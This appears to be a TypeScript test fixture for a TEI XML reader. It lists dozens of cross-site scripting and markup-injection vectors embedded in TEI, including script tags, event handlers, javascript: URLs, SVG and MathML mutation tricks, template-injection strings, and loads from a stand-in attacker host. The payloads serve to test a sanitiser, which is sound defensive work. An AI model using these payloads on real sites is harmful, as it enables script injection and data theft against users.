import {type Attack, evilHost, fileAttack, payload, textAttack} from './attack.js';

const html = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const svg = 'xmlns:s="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const math =
  'xmlns:m="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** What HTML would run, load, submit or obey, put into TEI by its namespace. */
const htmlElements: Readonly<Record<string, string>> = {
  script: `<h:script ${html}>${payload}</h:script>`,
  'script with src': `<h:script ${html} src="http://${evilHost}/x.js"/>`,
  'iframe srcdoc': `<h:iframe ${html} srcdoc="&lt;script>parent.${payload}&lt;/script>"/>`,
  'iframe src': `<h:iframe ${html} src="javascript:parent.${payload}"/>`,
  'object and embed': `<h:object ${html} data="data:text/html,x"/><h:embed ${html} src="//${evilHost}/x"/>`,
  'form action': `<h:form ${html} action="javascript:${payload}" id="f"><h:input name="x" autofocus="" onfocus="${payload}"/><h:button formaction="javascript:${payload}">go</h:button></h:form>`,
  'meta refresh': `<h:meta ${html} http-equiv="refresh" content="0;url=//${evilHost}/"/>`,
  'base href': `<h:base ${html} href="//${evilHost}/"/>`,
  'link stylesheet': `<h:link ${html} rel="stylesheet" href="//${evilHost}/x.css"/>`,
  'link preload and prefetch': `<h:link ${html} rel="preload" as="image" href="//${evilHost}/x"/><h:link ${html} rel="dns-prefetch" href="//${evilHost}"/>`,
  style: `<h:style ${html}>* { display: none }</h:style>`,
  'img onerror': `<h:img ${html} src="x" onerror="${payload}" srcset="//${evilHost}/x 2x"/>`,
  'video, audio and source': `<h:video ${html} src="//${evilHost}/v" poster="//${evilHost}/p" onloadstart="${payload}"><h:source src="//${evilHost}/s" onerror="${payload}"/><h:track src="//${evilHost}/t"/></h:video><h:audio ${html} src="//${evilHost}/a" autoplay=""/>`,
  'details ontoggle': `<h:details ${html} open="" ontoggle="${payload}"><h:summary>s</h:summary>d</h:details>`,
  'marquee and body': `<h:marquee ${html} onstart="${payload}">m</h:marquee><h:body ${html} onload="${payload}" background="//${evilHost}/b"/>`,
  template: `<h:template ${html} shadowrootmode="open"><h:script>${payload}</h:script></h:template>`,
  'noscript, xmp and plaintext': `<h:noscript ${html}><h:p title="&lt;/noscript>&lt;img src=x onerror=${payload}>"/></h:noscript><h:xmp ${html}>&lt;/xmp>&lt;img src=x onerror=${payload}></h:xmp><h:plaintext ${html}>p</h:plaintext>`,
  'title, textarea and select': `<h:title ${html}>&lt;/title>&lt;script>${payload}&lt;/script></h:title><h:textarea ${html}>&lt;/textarea>&lt;script>${payload}&lt;/script></h:textarea><h:select ${html}><h:option>o</h:option></h:select>`,
  'portal and fencedframe': `<h:portal ${html} src="//${evilHost}/"/><h:fencedframe ${html} src="//${evilHost}/"/>`,
  'custom elements of the reader': `<h:lectern-text ${html} src="http://${evilHost}/x.xml"/><h:lectern-reader ${html} files="http://${evilHost}/x.xml"/><h:lectern-facsimile ${html} src="http://${evilHost}/x.png"/>`,
  'dialog and popover': `<h:dialog ${html} open="">d</h:dialog><h:div ${html} popover="auto" style="position:fixed">x</h:div>`,
  'a with ping and download': `<h:a ${html} href="//${evilHost}/" ping="http://${evilHost}/p" download="x.exe" target="_top" rel="opener">a</h:a>`,
};

const svgElements: Readonly<Record<string, string>> = {
  script: `<s:svg ${svg}><s:script>${payload}</s:script></s:svg>`,
  'script href': `<s:svg ${svg}><s:script xlink:href="//${evilHost}/x.js" href="data:text/javascript,${payload}"/></s:svg>`,
  use: `<s:svg ${svg}><s:use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>${payload}&lt;/script>&lt;/svg>#x"/></s:svg>`,
  'animate of href': `<s:svg ${svg}><s:a xlink:href="#"><s:animate attributeName="href" values="javascript:${payload}" begin="0s"/><s:text>t</s:text></s:a></s:svg>`,
  'set onmouseover': `<s:svg ${svg}><s:set attributeName="onmouseover" to="${payload}"/><s:animate onbegin="${payload}" attributeName="x" dur="1s"/></s:svg>`,
  onload: `<s:svg ${svg} onload="${payload}"><s:g onload="${payload}"/></s:svg>`,
  foreignObject: `<s:svg ${svg}><s:foreignObject><h:iframe ${html} srcdoc="&lt;script>${payload}&lt;/script>"/></s:foreignObject></s:svg>`,
  image: `<s:svg ${svg}><s:image xlink:href="http://${evilHost}/x.svg"/><s:feImage href="http://${evilHost}/f"/></s:svg>`,
  style: `<s:svg ${svg}><s:style>@import url(//${evilHost}/x.css);</s:style></s:svg>`,
  'handler of SVG Tiny': `<s:svg ${svg} xmlns:ev="http://www.w3.org/2001/xml-events"><s:handler ev:event="load">${payload}</s:handler></s:svg>`,
};

const mathElements: Readonly<Record<string, string>> = {
  'href of any element': `<m:math ${math} href="javascript:${payload}"><m:mi xlink:href="javascript:${payload}">x</m:mi></m:math>`,
  'maction statusline': `<m:math ${math}><m:maction actiontype="statusline#http://${evilHost}" xlink:href="javascript:${payload}">x</m:maction></m:math>`,
  'annotation-xml of HTML': `<m:math ${math}><m:semantics><m:mi>x</m:mi><m:annotation-xml encoding="text/html"><h:img ${html} src="x" onerror="${payload}"/></m:annotation-xml></m:semantics></m:math>`,
  'mglyph in mtext, which parsers move': `<formula><m:math ${math}><m:mtext><m:table><m:mglyph><m:style>&lt;!--&lt;/style>&lt;img title="-->&lt;img src=1 onerror=${payload}>"></m:style></m:mglyph></m:table></m:mtext></m:math></formula>`,
  'malignmark in mtext': `<formula><m:math ${math}><m:mtext><h:table ${html}><m:malignmark/><h:tr><h:td>&lt;img src=x onerror=${payload}></h:td></h:tr></h:table></m:mtext></m:math></formula>`,
  'style and huge sizes': `<formula><m:math ${math} style="position:fixed" mathsize="9999em" mathbackground="url(//${evilHost})"><m:mspace width="99999em" height="99999em"/><m:mpadded width="99999em" lspace="-9999em" voffset="-9999em"><m:mi>x</m:mi></m:mpadded></m:math></formula>`,
  'phantom, which hides': `<formula><m:math ${math}><m:mphantom><m:mi>x</m:mi></m:mphantom><m:none/></m:math></formula>`,
  'HTML in formulas': `<formula><m:math ${math}><m:mi><h:script ${html}>${payload}</h:script></m:mi></m:math></formula><formula notation="TeX">\\href{javascript:${payload}}{x}\\unicode{x}&lt;script></formula>`,
};

/** Element names that TEI does not have but HTML does, in the namespace of TEI. */
const htmlNames =
  `script iframe object embed form input button meta base link style img svg math template frame
  frameset applet video audio body html head title textarea select option isindex keygen noscript plaintext
  xmp listing image bgsound marquee dialog slot canvas portal lectern-text`.split(/\s+/);

/** Shapes that change their meaning when markup is parsed again. */
const mutations: Readonly<Record<string, string>> = {
  'the end of a comment in an attribute': `<p n="--&gt;&lt;img src=x onerror=${payload}&gt;" type="--!&gt;&lt;script&gt;${payload}&lt;/script&gt;">a</p>`,
  'the end of an attribute in an attribute': `<p n="&quot; onclick=&quot;${payload}" type="' onclick='${payload}" rend="\` onclick=${payload}">a</p>`,
  'tags as text': `<p>&lt;script>${payload}&lt;/script>&lt;img src=x onerror=${payload}>&lt;/article>&lt;/lectern-text></p>`,
  'tags in CDATA': `<p><![CDATA[<script>${payload}</script><img src=x onerror=${payload}>]]></p>`,
  'nested paragraphs, tables and links': `<p><p><table><row><cell><p><ref target="a"><ref target="b"><table><row><cell><ref target="c">x</ref></cell></row></table></ref></ref></p></cell></row></table></p></p>`,
  'lists in headings in links': `<head><ref target="x"><list><head><note><list><item><head>x</head></item></list></note></head></list></ref></head>`,
  'blocks in a formula, a ruby and a caption': `<formula><p>x</p></formula><ruby><rb><table/></rb><rt><p>y</p></rt></ruby><figure><head><table><row><cell>z</cell></row></table></head></figure>`,
  'templates of script libraries': `<p>{{constructor.constructor('${payload}')()}} \${${payload}} &lt;%= ${payload} %> #{${payload}} {root} {document} {entity} $&amp; $1 $\` <!--lit-part--><!--?lit$1$--></p>`,
};

const named = (what: string, each: Readonly<Record<string, string>>): Attack[] =>
  Object.entries(each).map(([name, body]) =>
    textAttack(`${what}: ${name}`, `<p>before</p>${body}<p>after</p>`),
  );

export const otherNamespaces: readonly Attack[] = [
  ...named('HTML in TEI', htmlElements),
  ...named('SVG in TEI', svgElements),
  ...named('MathML in TEI', mathElements),
  ...named('markup that mutates', mutations),
  ...htmlNames.map((name) =>
    textAttack(
      `<${name}> in the namespace of TEI`,
      `<p>a <${name} src="//${evilHost}/x" href="javascript:${payload}" action="javascript:${payload}" content="0;url=//${evilHost}/" onload="${payload}">${payload}</${name}> b</p>`,
    ),
  ),
  textAttack(
    'names of elements that are keys of objects',
    [
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '__defineGetter__',
      'prototype',
    ]
      .map((name) => `<${name} ref="#x" type="${name}" n="${name}">t</${name}>`)
      .join(''),
  ),
  fileAttack(
    'a root of HTML with TEI in it',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${payload}"><script>${payload}</script><TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>a</p></body></text></TEI></body></html>`,
  ),
  fileAttack(
    'a root of SVG',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload}"><script>${payload}</script></svg>`,
  ),
  fileAttack(
    'the namespace of TEI bound to HTML’s prefix, and the reverse',
    `<h:TEI xmlns:h="http://www.tei-c.org/ns/1.0" xmlns="http://www.w3.org/1999/xhtml"><h:text><h:body><h:p>a<script>${payload}</script></h:p></h:body></h:text></h:TEI>`,
  ),
];
